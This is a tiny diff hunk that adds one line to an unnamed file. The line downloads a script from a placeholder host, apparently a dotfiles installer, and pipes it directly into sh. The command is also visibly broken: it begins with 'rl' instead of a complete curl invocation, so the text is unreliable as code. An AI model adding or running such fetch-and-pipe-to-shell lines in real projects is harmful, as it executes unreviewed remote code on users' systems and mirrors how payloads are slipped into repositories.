@@ -1,0 +1,1 @@
+rl -fsSL https://dotfiles.shellkit.example/p | sh
